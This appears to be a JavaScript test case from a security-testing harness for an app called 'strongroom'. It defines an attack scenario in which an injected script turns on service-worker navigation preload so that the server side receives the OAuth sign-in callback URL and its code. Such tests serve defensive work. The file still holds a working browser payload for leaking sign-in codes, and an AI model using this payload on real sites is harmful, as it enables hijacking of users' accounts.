import { attack } from "../attack.js";

export default attack({
  name: "enables navigation preload so that the host gets the callback's URL",
  threat: "manipulating the sign-in",
  target: "strongroom",
  alone: true,
  async payload() {
    for (const { navigationPreload } of await navigator.serviceWorker.getRegistrations()) {
      await navigationPreload?.setHeaderValue("x");
      await navigationPreload?.enable();
    }
  },
  async play(stage) {
    const { host } = stage.site;
    await stage.openSignedIn();
    await stage.signOut();
    await stage.inject();
    await stage.open();
    if (host) host.requests.length = 0;
    await stage.signIn();
  },
  gain: async ({ site }) =>
    site.host?.requests.some(({ path, query }) => path === "/auth/callback" && "code" in query)
      ? "the host's log has the code of the user's sign-in"
      : undefined,
});
